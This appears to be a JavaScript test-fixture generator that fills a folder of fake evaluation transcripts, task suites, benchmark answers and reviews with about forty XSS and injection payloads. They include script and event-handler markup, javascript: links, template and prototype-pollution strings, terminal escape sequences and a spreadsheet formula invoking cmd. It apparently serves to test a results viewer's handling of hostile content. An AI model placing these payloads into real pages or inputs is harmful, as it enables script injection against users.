// Hostile texts and a folder full of them: transcripts, suites, evaluation files, benchmark
// answers, reviews, notes and file names. `node payloads.mjs FOLDER COUNT SINK` writes such a
// folder; SINK is an address that must never be requested.
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

/** Effect of a successful payload: sets a page variable or requests the sink. */
const act = (n) => `window.pwned=${n}`;

/** Markup that acts by itself or on a click. */
const MARKUP = [
  (n) => `<script>${act(n)}</script>`,
  (n) => `<img src=x onerror="${act(n)}">`,
  (n, sink) => `<img src="${sink}/${n}">`,
  (n) => `<svg onload=${act(n)}>`,
  (n) => `<svg><animate onbegin=${act(n)} attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${act(n)}"><text>x</text></a></svg>`,
  (n) =>
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${act(n)}">x</maction></math>`,
  (n) => `<iframe srcdoc="<script>parent.pwned=${n}</script>"></iframe>`,
  (n, sink) => `<iframe src="${sink}/${n}"></iframe>`,
  (n) => `<details open ontoggle=${act(n)}>`,
  (n) => `<video><source onerror=${act(n)}></video>`,
  (n) => `<input autofocus onfocus=${act(n)}>`,
  (n) => `<marquee onstart=${act(n)}>`,
  (n) => `<object data="data:text/html,<script>parent.pwned=${n}</script>"></object>`,
  (n) => `<embed src="javascript:${act(n)}">`,
  (n, sink) => `<link rel=stylesheet href="${sink}/${n}.css">`,
  (n, sink) => `<style>@import "${sink}/${n}.css"; * { background: url(${sink}/${n}) }</style>`,
  (n, sink) => `<meta http-equiv=refresh content="0; url=${sink}/${n}">`,
  (n, sink) => `<base href="${sink}/${n}/">`,
  (n, sink) => `<form action="${sink}/${n}"><button autofocus>x</button></form>`,
  (n) => `<a href="javascript:${act(n)}">x</a>`,
  (n) => `<template><script>${act(n)}</script></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${act(n)}>">`,
  (n) => `<![CDATA[<script>${act(n)}</script>]]>`,
  (n) => `--><script>${act(n)}</script><!--`,
  (n) => `"><script>${act(n)}</script>`,
  (n) => `'-alert(1)-'; ${act(n)}//`,
  (n) => `</textarea></title></style></script><script>${act(n)}</script>`,
  (n) => `<x onclick=${act(n)} onpointerover=${act(n)} tabindex=0>x</x>`,
  (n) =>
    `{{constructor.constructor('${act(n)}')()}} \${${act(n)}} {@html "<img src=x onerror=${act(n)}>"}`,
  (n) => `[x](javascript:${act(n)}) ![x](javascript:${act(n)}) <javascript:${act(n)}>`,
  (n) =>
    `[x](java\tscript:${act(n)}) [x](data:text/html,<script>${act(n)}</script>) [x](vbscript:${n})`,
  (n, sink) => `![x](${sink}/${n}.png) [x]: ${sink}/${n} "x" [x][x] <${sink}/${n}>`,
  (n) =>
    `$\\href{javascript:${act(n)}}{x}$ $$\\url{javascript:${act(n)}}$$ \\(\\htmlData{x=1}{x}\\)`,
  (n) => `\`\`\`<script>${act(n)}</script>\nx\n\`\`\``,
  (n) => `\`\`\`json\n{"x": "<img src=x onerror=${act(n)}>", "__proto__": {"pwned": ${n}}}\n\`\`\``,
  (n) =>
    `| <img src=x onerror=${act(n)}> | [x](javascript:${act(n)}) |\n|---|---|\n| <svg onload=${act(n)}> | x |`,
  (n) =>
    `\u001b]0;pwned ${n}\u0007\u001b]8;;javascript:${act(n)}\u001b\\x\u001b]8;;\u001b\\ \u001b]52;c;cHduZWQ=\u0007\u001b[2J`,
  (n) => `\u202e${n}=denwp.wodniw\u202c \u2066<script>\u2069${act(n)} \u200b\ufeff`,
  (n) => `=HYPERLINK("javascript:${act(n)}") @SUM(1) +cmd|'/c calc'!A${n}`,
];

/** Other encodings of the same payloads. */
const WRITTEN = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("WINDOW.PWNED", "window.pwned"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll('"', "&quot;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("javascript:", "java&#10;script&colon;"),
  (text) => text.replaceAll("<", "<\n").replaceAll("=", " =\n"),
  (text) => encodeURIComponent(text),
  (text) => `> - 1. ${text.replaceAll("\n", "\n>   ")}`,
  (text) => `# ${text}\n\n**${text}** _[${text}](#x "${text}")_`,
];

/** All payloads, numbered from 1. */
export function payloads(count, sink) {
  const all = [];
  for (let n = 1; n <= count; n += 1) {
    const markup = MARKUP[(n - 1) % MARKUP.length](n, sink);
    all.push(WRITTEN[Math.floor((n - 1) / MARKUP.length) % WRITTEN.length](markup));
  }
  return all;
}

/** Writes the folder and returns the number of payloads per kind of file. */
export function write(folder, count, sink) {
  const left = payloads(count, sink);
  const [counts, stems] = [{}, []];
  const take = (kind, many) => {
    const taken = left.splice(0, many);
    counts[kind] = (counts[kind] ?? 0) + taken.length;
    while (taken.length < many) taken.push("plain");
    return taken;
  };
  const put = (name, value) => {
    const path = join(folder, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, typeof value === "string" ? value : JSON.stringify(value, null, 1));
  };
  put("touchstone.yaml", { input_dir: "tasks", output_dir: "results" });
  const share = (part) => Math.ceil(count * part);
  let task = 0;
  while (counts.suites === undefined || counts.suites < share(0.1)) {
    const [prompt, expected, name, tag, parameter] = take("suites", 5);
    put(`tasks/task${task}.yaml`, {
      name,
      tags: [tag],
      tool_calling_prompt: prompt,
      expected_tool_calls: ["look"],
      variations: [
        { name: tag, parameters: { x: parameter }, expected_output: [{ id: 1, value: expected }] },
      ],
    });
    task += 1;
  }
  for (let run = 0; (counts.transcripts ?? 0) < share(0.6); run += 1) {
    const p = take("transcripts", 12);
    const stem = `task${run % task}-tool_calling-${["o1", "claude", "o3-mini"][run % 3]}-variation0${run < 3 * task ? "" : `-run${Math.floor(run / (3 * task)) + 1}`}`;
    stems.push(stem);
    put(`results/${stem}.yaml`, {
      run: { system: "tool_calling", model: ["o1", "claude", "o3-mini"][run % 3], turns: 2 },
      conversation: [
        { user_message: p[0] },
        { assistant_message: p[1] },
        {
          tool_call: {
            id: p[2],
            name: p[3],
            params: { sql: p[4], [p[5]]: 1 },
            result: [
              { [p[6]]: p[7], b: 1 },
              { [p[6]]: "x", b: 2 },
            ],
          },
        },
        { tool_call: { id: "c2", name: "look", params: {}, error: p[8] } },
        { assistant_message: `${p[9]}\n\nharmless end` },
        ...(run % 7 === 0 ? [{ error: p[10] }] : []),
      ],
      answer: [{ id: 1, value: p[11] }],
    });
  }
  const rows = [];
  while ((counts.evaluations ?? 0) < share(0.1)) {
    const [query, response, reason, truth, id] = take("evaluations", 5);
    rows.push({
      "inputs.id": id,
      "inputs.query": query,
      "inputs.response": response,
      "inputs.ground_truth": truth,
      "outputs.relevance.relevance": 2.0,
      "outputs.relevance.relevance_result": "fail",
      "outputs.relevance.relevance_reason": reason,
    });
  }
  put("results/rows.json", {
    rows,
    metrics: { "relevance.relevance": 2.0 },
    studio_url: `javascript:${act(0)}`,
  });
  const answers = {};
  while ((counts.benchmark ?? 0) < share(0.1)) {
    const [query, final, name, said] = take("benchmark", 4);
    answers[String(Object.keys(answers).length)] = {
      query,
      available_tools: [],
      answer: {
        method: "CoT@1",
        total_steps: 2,
        final_answer: JSON.stringify({ return_type: "give_answer", final_answer: final }),
        answer_details: [
          {
            role: "system",
            message: "",
            next: [
              {
                role: "user",
                message: "",
                next: [
                  { role: "tool", message: { name, arguments: "{}", response: said }, next: [] },
                ],
              },
            ],
          },
        ],
      },
    };
  }
  put("results/lantern_cot/G1_instruction.json", answers);
  for (const stem of stems) {
    if (left.length === 0) break;
    const [note, by] = take("reviews", 2);
    put(`results/.touchstone/reviews/${stem}.yaml`, {
      verdict: "wrong",
      note,
      by,
      at: "2026-11-23T10:00:00.000Z",
    });
  }
  while (left.length > 0) {
    const [text] = take("file names", 1);
    const name = Array.from(text.replaceAll("/", "∕").replaceAll("\0", "")).slice(0, 60).join("");
    put(`results/${counts["file names"]} ${name}.yaml`, {
      conversation: [{ user_message: text }, { assistant_message: "harmless end" }],
    });
  }
  return counts;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [folder, count, sink] = process.argv.slice(2);
  console.log(JSON.stringify(write(folder, Number(count), sink)));
}
